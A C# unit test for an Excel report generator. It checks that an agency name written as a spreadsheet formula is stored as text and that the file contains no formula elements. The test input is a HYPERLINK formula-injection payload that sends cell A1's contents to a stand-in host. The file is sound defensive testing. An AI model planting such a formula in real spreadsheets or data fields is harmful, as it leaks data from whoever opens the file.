using System.IO.Compression;
using ClosedXML.Excel;
using Dapper;
using ReformMetrics.Metrics.Periods;
using ReformMetrics.Reports.Excel;
using ReformMetrics.Reports.OfficialForm;
using ReformMetrics.TestSupport;

namespace ReformMetrics.Reports.Tests;

/// <summary>Text that people control (an agency's name comes from the agency lists the provinces load) reaches the Excel
/// reports as text: ClosedXML 0.95 writes a formula only through FormulaA1, which no report uses; a string given as a
/// cell's value is stored as text (or the number or date it reads).</summary>
public sealed class SpreadsheetTextTests(Scenario scenario) : IClassFixture<Scenario>
{
    private const string Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";

    [Fact]
    public async Task An_agency_named_as_a_formula_is_a_text_cell_of_the_form_and_the_file_has_no_formula()
    {
        var cancel = TestContext.Current.CancellationToken;
        await using (var connection = scenario.Database.Store.CreateConnection())
        {
            await connection.ExecuteAsync(new CommandDefinition(
                "INSERT INTO agencies (code, name_vi, province_code, level, valid_from, valid_to) VALUES ('AG-TEST', @name, '72', 'commune', '2015-01-01', '2030-12-31')",
                new { name = Formula }, cancellationToken: cancel));
        }

        var report = await TestReports.Forms(scenario.Database.Store, TimeProvider.System).BuildAsync(Period.Month(2025, 4), 2008, "72", FormLayout.Agency, cancel);
        using var stream = new MemoryStream();
        TthcResultsWorkbook.Write(report, stream);

        stream.Position = 0;
        using (var workbook = new XLWorkbook(stream))
        {
            var cell = Assert.Single(workbook.Worksheet(1).CellsUsed(), c => c.GetString() == Formula);
            Assert.False(cell.HasFormula);
            Assert.Equal(XLDataType.Text, cell.DataType);
        }

        // In the file itself: no formula element in any sheet, whatever a spreadsheet program makes of the cells.
        stream.Position = 0;
        using var zip = new ZipArchive(stream, ZipArchiveMode.Read);
        foreach (var sheet in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(sheet.Open());
            var xml = await reader.ReadToEndAsync(cancel);
            Assert.DoesNotMatch("<([a-z]+:)?f[ >]", xml);
        }
    }
}
